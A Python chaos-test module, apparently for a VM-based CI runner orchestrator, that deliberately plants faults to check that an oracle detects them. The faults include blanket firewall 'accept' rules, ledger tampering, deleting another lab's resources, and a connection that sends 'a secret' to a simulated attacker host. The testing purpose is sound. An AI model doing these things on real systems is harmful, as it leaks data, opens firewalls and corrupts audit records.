"""What must never happen, done on purpose at the end of a run with real machines, so that it is seen that the judge sees it.

Agent and worker are stopped meanwhile: they would take some of it away before the judge has looked.  Each is undone before
the next one, so that none is found by what another did; what can't be undone comes last.
"""

from __future__ import annotations

import asyncio
import os
import signal
import socket
import time
from collections.abc import Awaitable, Callable, Iterator
from contextlib import AbstractContextManager, contextmanager
from pathlib import Path
from typing import Any

import msgspec
from ulid import ULID

from orchestrator.control.github import RunnerScope
from orchestrator.control.github_kit import KitGitHub
from orchestrator.core.names import Names, names_of
from orchestrator.host.domain_xml import METADATA
from orchestrator.surface.demo import scenario
from orchestrator.system import netns
from orchestrator.system.process import run
from tests.chaos import vm_oracle
from tests.chaos.machine import FOREIGN_FILES
from tests.chaos.vm_city import FOREIGN_TABLE, Seen, VmCity

WRITTEN_WITHIN_S = 20.0
Planted = AbstractContextManager[None]


class Spoil(msgspec.Struct, frozen=True):
    plant: Callable[[VmCity], Planted]
    seen_in: str
    """Where the judge must find it: a key of `vm_oracle.left`, or one of `_LOOKS`."""


def unseen(city: VmCity, which: str) -> tuple[str, ...]:
    """Plant one, or ``all``; those that the judge didn't see, and kinds that nothing here stands for.  The run is of no use afterwards."""
    halted = [pid for name, pid in city.lab.stack.pids.items() if name in ("agent", "worker")]
    for pid in halted:
        os.kill(pid, signal.SIGSTOP)
    try:
        if which != "all":
            return () if _is_seen(city, which) else (which,)
        untried = {*vm_oracle.left(city), *_LOOKS} - {spoil.seen_in for spoil in SPOILS.values()}
        return (*(name for name in SPOILS if not _is_seen(city, name)), *(f"any {kind}" for kind in sorted(untried)))
    finally:
        for pid in halted:
            os.kill(pid, signal.SIGCONT)


def _is_seen(city: VmCity, name: str) -> bool:
    """Plant it, look, and take it away: it is found where it belongs, and wasn't before."""
    spoil = SPOILS[name]
    before = _look(city, spoil.seen_in)
    with spoil.plant(city):
        after = _look(city, spoil.seen_in)
    if after and not before:
        return True
    city.told(f"{name} was done and not seen; before that: {before}")
    return False


def _look(city: VmCity, where: str) -> list[str]:
    return _LOOKS[where](city) if where in _LOOKS else vm_oracle.left(city)[where]


_LOOKS: dict[str, Callable[[VmCity], list[str]]] = {
    "ends": lambda city: vm_oracle.ends(city)[1],
    "foreign": vm_oracle.foreign_gone,
    "logs": vm_oracle.broken,
    "wall": lambda city: [f"{it.name}: {it.seen}" for it in vm_oracle.wall(city) if not it.ok],
    "names": lambda city: [f"{it.name}: {it.seen}" for it in vm_oracle.also_gone(city) if not it.ok],
}


def _fresh() -> Names:
    return names_of(str(ULID()))


def _known(city: VmCity) -> Names:
    return names_of(min(city.ulids))


def _first(city: VmCity) -> Seen:
    return next(iter(city.jobs.values()))


def _file(path: Callable[[VmCity], Path]) -> Callable[[VmCity], Planted]:
    @contextmanager
    def plant(city: VmCity) -> Iterator[None]:
        path(city).touch()
        yield
        path(city).unlink()

    return plant


@contextmanager
def _lose_a_job(city: VmCity) -> Iterator[None]:
    """As if nobody had said that its machine was lost."""
    seen = _first(city)
    lost, seen.lost = seen.lost, ""
    yield
    seen.lost = lost


@contextmanager
def _serve_twice(city: VmCity) -> Iterator[None]:
    takers = city.takers[_first(city).plan.key, "1"]
    takers.add("another")
    yield
    takers.remove("another")


@contextmanager
def _leave_a_domain(city: VmCity) -> Iterator[None]:
    """Defined, not running."""
    names, uri = _fresh(), city.lab.stack.host.libvirt_uri
    mark = f'<i:runner xmlns:i="{METADATA}" id="{names.ulid}" site="{city.lab.vm_netns}"/>'
    file = city.lab.folder / "domain.xml"
    file.write_text(
        f'<domain type="qemu"><name>{names.domain}</name><metadata>{mark}</metadata>'
        '<memory unit="MiB">16</memory><os><type>hvm</type></os></domain>'
    )
    run(["virsh", "--connect", uri, "define", str(file)])
    yield
    run(["virsh", "--connect", uri, "undefine", names.domain])


def _tap(*, inside: bool) -> Callable[[VmCity], Planted]:
    @contextmanager
    def plant(city: VmCity) -> Iterator[None]:
        """In the machine's own namespace only those of this run are looked for: other labs have theirs there."""
        tap = (_fresh() if inside else _known(city)).tap
        ip = ["ip", "-n", city.lab.vm_netns] if inside else ["ip"]
        run([*ip, "tuntap", "add", tap, "mode", "tap"])
        yield
        run([*ip, "link", "del", tap])

    return plant


@contextmanager
def _leave_a_chain(city: VmCity) -> Iterator[None]:
    chain = _fresh().chain
    city.nft("add", "chain", "inet", "ironcd", chain)
    yield
    city.nft("delete", "chain", "inet", "ironcd", chain)


@contextmanager
def _leave_a_registration(city: VmCity) -> Iterator[None]:
    scope = RunnerScope(city.simulated("GET", "state")["installation_id"], "acme")
    made = asyncio.run(_at_github(city, lambda kit: kit.generate_jit(scope, _fresh().runner, ("ironcd",))))
    yield
    asyncio.run(_at_github(city, lambda kit: kit.delete_runner(scope, made.github_id)))


async def _at_github(city: VmCity, call: Callable[[KitGitHub], Awaitable[Any]]) -> Any:
    github = city.lab.settings.github
    kit = KitGitHub(github.app_id, github.private_key_file.read_text(), api_url=github.api_url)
    try:
        return await call(kit)
    finally:
        await kit.close()


@contextmanager
def _leave_a_key(city: VmCity) -> Iterator[None]:
    redis = city.lab.settings.redis
    cli, key = ["redis-cli", "-s", redis.url.removeprefix("unix://")], f"{redis.prefix}of-nobody"
    run([*cli, "set", key, "1"])
    yield
    run([*cli, "del", key])


@contextmanager
def _touch_a_strangers_table(city: VmCity) -> Iterator[None]:
    city.nft("delete", "table", "inet", FOREIGN_TABLE)
    yield
    city.nft("add", "table", "inet", FOREIGN_TABLE)


@contextmanager
def _touch_a_strangers_disk(city: VmCity) -> Iterator[None]:
    file = city.paths.disks / FOREIGN_FILES[0]
    file.unlink()
    yield
    file.touch()


@contextmanager
def _change_the_ledger(city: VmCity) -> Iterator[None]:
    """One letter of one line."""
    file = max(city.paths.ledger.rglob("*.jsonl"), key=lambda path: path.stat().st_size)
    before = file.read_bytes()
    file.write_bytes(before.replace(b"allowed", b"aLlowed", 1))
    yield
    file.write_bytes(before)


@contextmanager
def _break_a_loop(city: VmCity) -> Iterator[None]:
    log = city.lab.logs / "worker.log"
    size = log.stat().st_size
    with log.open("ab") as lines:
        lines.write(b'{"event": "loop_broke"}\n')
    yield
    os.truncate(log, size)


@contextmanager
def _reach_a_port_of_the_host(city: VmCity) -> Iterator[None]:
    """Through a hole in the wall, which the agent mends once it goes on."""
    for chain in ("gate", "input", "output"):
        city.nft("insert", "rule", "inet", "ironcd", chain, "accept")
    with netns.inside(city.lab.vm_netns):
        socket.create_connection(("127.0.0.1", scenario.TRAPPED[0]), timeout=5).close()
    _until(lambda: bool(city.caught))
    yield
    city.caught.clear()


@contextmanager
def _reach_the_attacker(city: VmCity) -> Iterator[None]:
    with netns.inside(city.lab.facts["uplink_netns"]):
        connection = socket.create_connection((scenario.PLACES.attacker, 443), timeout=5)
    with connection:
        connection.sendall(b"a secret")
    _until(lambda: bool(city.simulated("GET", f"world/received?address={scenario.PLACES.attacker}")))
    yield


def _until(holds: Callable[[], bool]) -> None:
    """Another thread or process writes it down."""
    limit = time.monotonic() + WRITTEN_WITHIN_S
    while not holds() and time.monotonic() < limit:
        time.sleep(0.05)


SPOILS: dict[str, Spoil] = {
    "lose-a-job": Spoil(_lose_a_job, "ends"),
    "serve-twice": Spoil(_serve_twice, "ends"),
    "leave-a-domain": Spoil(_leave_a_domain, "domains"),
    "leave-a-disk": Spoil(_file(lambda city: city.paths.disks / "left-behind.qcow2"), "disks"),
    "leave-a-kernel": Spoil(_file(lambda city: city.paths.boot / "left-behind"), "disks"),
    "leave-a-seed": Spoil(_file(lambda city: city.paths.seeds / _known(city).seed), "seeds"),
    "leave-a-file-of-a-runner": Spoil(_file(lambda city: city.paths.seeds / _known(city).seed), "names"),
    "leave-a-link": Spoil(_file(lambda city: city.paths.links / f"{_known(city).tap}.json"), "links"),
    "leave-a-channel": Spoil(_file(lambda city: city.paths.channels / _known(city).channel), "channels"),
    "leave-a-record": Spoil(_file(lambda city: city.paths.records / f"{_known(city).runner}.json"), "records"),
    "leave-a-tap": Spoil(_tap(inside=True), "taps"),
    "leave-a-tap-outside": Spoil(_tap(inside=False), "taps"),
    "leave-a-chain": Spoil(_leave_a_chain, "chains"),
    "leave-a-registration": Spoil(_leave_a_registration, "runners"),
    "leave-a-key": Spoil(_leave_a_key, "redis_keys"),
    "touch-a-stranger": Spoil(_touch_a_strangers_table, "foreign"),
    "touch-a-strangers-disk": Spoil(_touch_a_strangers_disk, "foreign"),
    "break-a-loop": Spoil(_break_a_loop, "logs"),
    "change-the-ledger": Spoil(_change_the_ledger, "wall"),
    "reach-a-port-of-the-host": Spoil(_reach_a_port_of_the_host, "wall"),
    "reach-the-attacker": Spoil(_reach_the_attacker, "wall"),
}
